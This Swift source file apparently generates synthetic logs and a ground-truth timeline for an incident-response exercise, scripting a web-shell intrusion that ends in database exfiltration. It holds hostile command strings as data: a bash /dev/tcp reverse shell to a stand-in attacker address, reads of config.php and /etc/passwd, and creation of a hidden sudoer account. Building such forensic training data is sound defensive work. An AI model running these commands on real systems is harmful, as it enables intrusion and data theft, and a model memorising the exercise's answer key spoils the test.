/// One hop of the attacker (or of the look-alike admin) from host to host.
public struct LateralHop: Sendable, Equatable {
    public var from: String
    public var to: String
    public var time: Micros
    public var account: String
    public var method: String
}

/// Everything the seed decides about the incident, before any line is written.
///
/// The attack is planned from its own random stream (`ScenarioRandom(seed, 1)`), so the background
/// volume never moves it.
struct StoryPlan {
    var attackDay: Int
    var scanStart: Micros
    var scanRequests: Int
    var scanSeconds: Int
    var exploitStart: Micros
    var shellCommands: [String]
    var reverseShellPort: Int
    var extraHop: Bool
    var hopAccount = "deploy"
    var attackerTTY: Int
    var lookalikeDay: Int
    var lookalikeStart: Micros
    var decoyStart: Micros
    var decoyConnections: Int
    var exfilBytes: Int
}

/// What the story emitted that the ground truth reports.
struct StoryFacts {
    var hops: [LateralHop] = []
    var lookalike: LateralHop?
    var compromisedHosts: [String] = []
    var persistenceTime: Micros = 0
    var exfilStart: Micros = 0
    var exfilEnd: Micros = 0
    var decoyFailures = 0
    var timeline: [(Micros, String)] = []
}

enum Story {
    static func plan(seed: UInt64, windowStart: Micros, days: Int, topology: Topology) -> StoryPlan {
        var r = ScenarioRandom(seed, 1)
        // The attack falls on the last or the one-before-last day; it may run past midnight into the next
        // rotation when there is a next day.
        let attackDay = days >= 3 ? r.int((days - 2)...(days - 1)) : days - 1
        let latestHour = attackDay == days - 1 ? 19 : 22
        let dayStart = windowStart + Micros(attackDay) * microsPerDay
        let scanSecond = dayStart + Micros(r.int((8 * 3_600)...(latestHour * 3_600))) * microsPerSecond
        let scanStart = scanSecond + Micros(r.int(200_000...600_000))
        let scanRequests = r.int(180...420)
        let scanSeconds = r.int(180...420)
        let exploitStart = scanStart + Micros(scanSeconds + r.int(360...1_200)) * microsPerSecond
        var commands = ["id", "whoami", "uname -a"]
        if r.chance(0.5) { commands.append("pwd") }
        commands.append("ls -la /var/www/html")
        commands.append("cat /var/www/html/config.php")
        if r.chance(0.5) { commands.append("cat /etc/passwd") }
        let lookalikeDay = r.int(0...(attackDay - 1))
        let lookalikeStart =
            windowStart + Micros(lookalikeDay) * microsPerDay + Micros(r.int((10 * 3_600)...(15 * 3_600)))
            * microsPerSecond
        let decoyDay = r.int(max(0, attackDay - 1)...attackDay)
        let decoyStart =
            windowStart + Micros(decoyDay) * microsPerDay + Micros(r.int((3_600)...(20 * 3_600))) * microsPerSecond
        return StoryPlan(
            attackDay: attackDay, scanStart: scanStart, scanRequests: scanRequests, scanSeconds: scanSeconds,
            exploitStart: exploitStart, shellCommands: commands, reverseShellPort: r.pick([4444, 443, 8443, 9001]),
            extraHop: topology.index("app02") != nil && r.chance(0.5), attackerTTY: r.int(0...2),
            lookalikeDay: lookalikeDay, lookalikeStart: lookalikeStart, decoyStart: decoyStart,
            decoyConnections: r.int(150...320), exfilBytes: r.int(220_000_000...880_000_000))
    }

    /// The SSH sessions of the story, for logind's session numbers (planned before any line is emitted).
    static func sessions(_ p: StoryPlan, seed: UInt64, topology: Topology) -> [SSHSession] {
        var facts = StoryFacts()
        var scratch = Emitter(
            seed: seed, topology: topology, windowStart: 0, nagiosIntervalSeconds: 600, plannedStarts: [])
        return attack(p, seed: seed, emitter: &scratch, facts: &facts, emit: false)
    }

    static func urlEncode(_ command: String) -> String {
        var out = ""
        for b in command.utf8 {
            switch b {
            case UInt8(ascii: "a")...UInt8(ascii: "z"), UInt8(ascii: "A")...UInt8(ascii: "Z"),
                UInt8(ascii: "0")...UInt8(ascii: "9"), UInt8(ascii: "-"), UInt8(ascii: "_"), UInt8(ascii: "."),
                UInt8(ascii: "/"), UInt8(ascii: "~"):
                out.unicodeScalars.append(Unicode.Scalar(b))
            default:
                let hex = Array("0123456789ABCDEF".utf8)
                out += "%"
                out.unicodeScalars.append(Unicode.Scalar(hex[Int(b >> 4)]))
                out.unicodeScalars.append(Unicode.Scalar(hex[Int(b & 15)]))
            }
        }
        return out
    }

    /// Emits the attack (when `emit`), and returns its SSH sessions either way.
    @discardableResult
    static func attack(
        _ p: StoryPlan, seed: UInt64, emitter e: inout Emitter, facts: inout StoryFacts, emit: Bool
    ) -> [SSHSession] {
        // `r` decides times (drawn identically whether emitting or not); `w` decides the details of the lines.
        var r = ScenarioRandom(seed, 2)
        var w = ScenarioRandom(seed, 3)
        let topo = topology(e)
        guard let web = topo.index("web01"), let app = topo.index("app01"), let db = topo.index("db01") else {
            return []
        }
        let attacker = Net.attackerWeb
        let a = RecordFlag.attacker
        var sessions: [SSHSession] = []
        var port = r.int(33_000...58_000)

        // 1. Recon: a Nikto scan, one connection per request.
        let nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:"
        var t = p.scanStart
        let step = Micros(p.scanSeconds) * microsPerSecond / Micros(p.scanRequests)
        var testNumber = r.int(1...400)
        for i in 0..<p.scanRequests {
            let request: WebRequest
            switch i {
            case 0:
                request = WebRequest(
                    offset: 0, method: "GET", uri: "/", status: 200, bytes: 18_420, referrer: "", mime: "text/html")
            case 1:
                request = WebRequest(
                    offset: 0, method: "GET", uri: "/robots.txt", status: 200, bytes: 67, referrer: "",
                    mime: "text/plain")
            default:
                let path: String
                if i == p.scanRequests / 2 {
                    path = "/upload.php"
                } else {
                    path = Site.probePaths[(i * 7 + testNumber) % Site.probePaths.count] + (i % 3 == 0 ? "" : "?\(i)")
                }
                let status =
                    path == "/upload.php"
                    ? 200 : (path.hasPrefix("/admin/") || path.hasPrefix("/server-status") ? 403 : 404)
                let bytes = status == 200 ? 3_120 : (status == 403 ? 153 : 153 + r.int(0...2))
                request = WebRequest(
                    offset: 0, method: i % 11 == 5 ? "POST" : "GET", uri: path, status: status, bytes: bytes,
                    referrer: "", mime: "text/html")
            }
            testNumber += r.int(1...9)
            if emit {
                e.webVisit(
                    client: attacker, clientPort: port, start: t, requests: [request],
                    userAgent: nikto + String(repeating: "0", count: max(0, 6 - String(testNumber).count))
                        + "\(testNumber))",
                    flags: a, random: &w)
            }
            port += r.int(1...3)
            t += step + Micros(r.int(0...200_000))
        }
        if emit {
            facts.timeline.append(
                (p.scanStart, "Recon: Nikto scan of web01 from 203.0.113.45 (\(p.scanRequests) requests, mostly 404)"))
        }

        // 2. Initial access: the upload form takes a PHP file; the web shell answers commands.
        let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"
        let tool = "python-requests/2.31.0"
        t = p.exploitStart
        if emit {
            e.webVisit(
                client: attacker, clientPort: port, start: t,
                requests: [
                    WebRequest(
                        offset: 0, method: "GET", uri: "/upload.php", status: 200, bytes: 3_120, referrer: "",
                        mime: "text/html")
                ],
                userAgent: browser, flags: a, random: &w)
            port += 1
            t += Micros(r.int(30...150)) * microsPerSecond
            e.webVisit(
                client: attacker, clientPort: port, start: t,
                requests: [
                    WebRequest(
                        offset: 0, method: "POST", uri: "/upload.php", status: 200, bytes: 87,
                        referrer: "http://\(Net.siteName)/upload.php", mime: "text/html", requestBytes: 412)
                ],
                userAgent: tool, flags: a, random: &w)
            facts.timeline.append((t, "Initial access: POST /upload.php drops the web shell /uploads/shell.php"))
        } else {
            t += Micros(r.int(30...150)) * microsPerSecond
        }
        port += 1
        let outputs: [String: Int] = [
            "id": 54, "whoami": 9, "uname -a": 112, "pwd": 14, "ls -la /var/www/html": 1_204,
            "cat /var/www/html/config.php": 631, "cat /etc/passwd": 1_893,
        ]
        for command in p.shellCommands {
            t += Micros(r.int(8...75)) * microsPerSecond + Micros(r.int(0...999_999))
            if emit {
                e.webVisit(
                    client: attacker, clientPort: port, start: t,
                    requests: [
                        WebRequest(
                            offset: 0, method: "GET", uri: "/uploads/shell.php?cmd=" + urlEncode(command), status: 200,
                            bytes: outputs[command] ?? 40, referrer: "", mime: "text/html")
                    ],
                    userAgent: tool, flags: a, random: &w)
                if command.hasPrefix("cat /var/www/html/config.php") {
                    facts.timeline.append(
                        (t, "Web shell reads /var/www/html/config.php: the deploy account's password"))
                }
            }
            port += 1
        }
        t += Micros(r.int(20...90)) * microsPerSecond
        let reverseShellStart = t
        let reverse = "nohup bash -c 'bash -i >& /dev/tcp/\(attacker)/\(p.reverseShellPort) 0>&1' &"
        if emit {
            e.webVisit(
                client: attacker, clientPort: port, start: t,
                requests: [
                    WebRequest(
                        offset: 0, method: "GET", uri: "/uploads/shell.php?cmd=" + urlEncode(reverse), status: 200,
                        bytes: 0, referrer: "", mime: "text/html")
                ],
                userAgent: tool, flags: a, random: &w)
            facts.timeline.append((t, "Reverse shell from web01 (www-data) to 203.0.113.45:\(p.reverseShellPort)"))
        }

        // 3. Lateral movement: web01 → app01 as deploy, with the password from config.php.
        t += Micros(r.int(180...600)) * microsPerSecond + Micros(r.int(0...999_999))
        let webAddress = topo.hosts[web].address
        let hop1Start = t
        var hop1 = SSHSession(
            host: app, user: "deploy", source: webAddress, sourcePort: r.int(40_000...60_999), start: hop1Start,
            end: 0, method: .password, flags: a)
        // 4. Privilege escalation on app01.
        t += Micros(r.int(60...240)) * microsPerSecond + Micros(r.int(0...999_999))
        let sudoStart = t
        // 5. Persistence: a new sudoer.
        t += Micros(r.int(120...360)) * microsPerSecond + Micros(r.int(0...999_999))
        let persistence = t
        // 6. Second hop (through app02 on some seeds) to db01.
        var chain: [(Int, Int)] = []  // (from host, to host)
        if p.extraHop, let app2 = topo.index("app02") {
            chain = [(app, app2), (app2, db)]
        } else {
            chain = [(app, db)]
        }
        var hopSessions: [SSHSession] = []
        for (from, to) in chain {
            t += Micros(r.int(180...600)) * microsPerSecond + Micros(r.int(0...999_999))
            hopSessions.append(
                SSHSession(
                    host: to, user: p.hopAccount, source: topo.hosts[from].address, sourcePort: r.int(40_000...60_999),
                    start: t, end: 0, method: .password, flags: a))
        }
        // 7. Collection and exfiltration on db01.
        t += Micros(r.int(60...200)) * microsPerSecond + Micros(r.int(0...999_999))
        let dumpStart = t
        let dumpMicros = Micros(r.int(50...240)) * microsPerSecond
        t += dumpMicros + Micros(r.int(40...180)) * microsPerSecond
        let exfilStart = t
        let exfilMicros = Micros(r.int(240...720)) * microsPerSecond + Micros(r.int(0...999_999))
        t += exfilMicros + Micros(r.int(10...60)) * microsPerSecond
        let cleanup = t
        // 8. Logout, innermost first; the end of the first hop's session is the last attacker event.
        var ends: [Micros] = []
        for _ in hopSessions {
            t += Micros(r.int(30...200)) * microsPerSecond
            ends.append(t)
        }
        t += Micros(r.int(30...150)) * microsPerSecond
        let sudoEnd = t
        t += Micros(r.int(15...90)) * microsPerSecond
        // Whole second + 0.1–0.5 s, so all closing lines of the final logout share one second.
        let finalEnd = Calendar0.floorDiv(t, microsPerSecond) * microsPerSecond + Micros(r.int(100_000...500_000))
        hop1.end = finalEnd
        hop1.closeFlags = RecordFlag.final
        for i in hopSessions.indices { hopSessions[i].end = ends[hopSessions.count - 1 - i] }
        sessions.append(hop1)
        sessions.append(contentsOf: hopSessions)
        guard emit else { return sessions }

        e.conn(
            uid: Identifiers.zeekUID(&w), time: reverseShellStart + 90_000, from: webAddress, w.int(40_000...60_999),
            to: attacker, p.reverseShellPort, proto: "tcp", service: "-",
            duration: finalEnd + 4 * microsPerSecond - reverseShellStart,
            bytesOut: w.int(60_000...180_000), bytesIn: w.int(4_000...12_000), state: "SF", history: "ShADadFf",
            flags: a)
        let tty = p.attackerTTY
        for s in [hop1] + hopSessions {
            e.sshSession(s, random: &w)
            facts.hops.append(
                LateralHop(
                    from: topo.hosts.first { $0.address == s.source }?.name ?? "\(s.source)",
                    to: topo.hosts[s.host].name,
                    time: e.lastAccepted, account: s.user, method: "ssh"))
        }
        facts.timeline.append((hop1Start, "Lateral movement: ssh web01 → app01 as deploy (password)"))
        e.sudo(
            host: app, sudoStart, user: "deploy", tty: tty, pwd: "/home/deploy", command: "/bin/bash",
            durationMicros: sudoEnd - sudoStart, flags: a, random: &w)
        facts.timeline.append((sudoStart, "Privilege escalation on app01: sudo /bin/bash as deploy"))
        let newUID = 1002
        let useradd = e.pid(host: app, at: persistence, salt: 11)
        e.auth(host: app, persistence, "useradd", pid: useradd, flags: a) {
            $0.put("new group: name=sysupdate, GID=\(newUID)")
        }
        e.auth(host: app, persistence + 4_000, "useradd", pid: useradd, flags: a | RecordFlag.naming) {
            $0.put(
                "new user: name=sysupdate, UID=\(newUID), GID=\(newUID), home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/\(tty)"
            )
        }
        let usermodTime = persistence + Micros(w.int(10...40)) * microsPerSecond + Micros(w.int(0...999_999))
        let usermod = e.pid(host: app, at: usermodTime, salt: 12)
        e.auth(host: app, usermodTime, "usermod", pid: usermod, flags: a | RecordFlag.naming) {
            $0.put("add 'sysupdate' to group 'sudo'")
        }
        e.auth(host: app, usermodTime + 2_000, "usermod", pid: usermod, flags: a | RecordFlag.naming) {
            $0.put("add 'sysupdate' to shadow group 'sudo'")
        }
        let passwdTime = usermodTime + Micros(w.int(8...30)) * microsPerSecond + Micros(w.int(0...999_999))
        e.auth(
            host: app, passwdTime, "passwd", pid: e.pid(host: app, at: passwdTime, salt: 13),
            flags: a | RecordFlag.naming
        ) {
            $0.put("pam_unix(passwd:chauthtok): password changed for sysupdate")
        }
        facts.persistenceTime = persistence
        facts.timeline.append(
            (persistence, "Persistence on app01: useradd sysupdate, added to group sudo, password set"))
        for s in hopSessions {
            facts.timeline.append(
                (
                    s.start,
                    "Lateral movement: ssh \(topo.hosts.first { $0.address == s.source }?.name ?? "") → \(topo.hosts[s.host].name) as deploy (password)"
                ))
        }
        let dbTTY = w.int(0...2)
        e.sudo(
            host: db, dumpStart, user: "deploy", tty: dbTTY, pwd: "/home/deploy",
            command: "/usr/bin/mysqldump --all-databases --single-transaction --result-file=/tmp/.cache.sql",
            durationMicros: dumpMicros, flags: a, random: &w)
        facts.timeline.append((dumpStart, "Collection on db01: sudo mysqldump --all-databases"))
        e.conn(
            uid: Identifiers.zeekUID(&w), time: exfilStart, from: topo.hosts[db].address, w.int(40_000...60_999),
            to: Net.attackerExfil, 443, proto: "tcp", service: "ssl", duration: exfilMicros, bytesOut: p.exfilBytes,
            bytesIn: w.int(30_000...90_000), state: "SF", history: "ShADadFf", flags: a)
        facts.exfilStart = exfilStart
        facts.exfilEnd = exfilStart + exfilMicros
        facts.timeline.append((exfilStart, "Exfiltration: db01 → 198.51.100.77:443, \(p.exfilBytes) bytes"))
        e.sudo(
            host: db, cleanup, user: "deploy", tty: dbTTY, pwd: "/home/deploy",
            command: "/usr/bin/rm -f /tmp/.cache.sql",
            durationMicros: Micros(w.int(20_000...90_000)), flags: a, random: &w)
        facts.timeline.append((cleanup, "Clean-up on db01: sudo rm -f /tmp/.cache.sql"))
        for s in hopSessions.reversed() {
            facts.timeline.append((s.end, "Logout from \(topo.hosts[s.host].name)"))
        }
        facts.timeline.append(
            (finalEnd, "Last attacker event: the deploy session on app01 closes (pam_unix session closed)"))
        facts.compromisedHosts = ["web01", "app01"] + hopSessions.map { topo.hosts[$0.host].name }
        return sessions
    }

    static func topology(_ e: Emitter) -> Topology { e.topology }
}
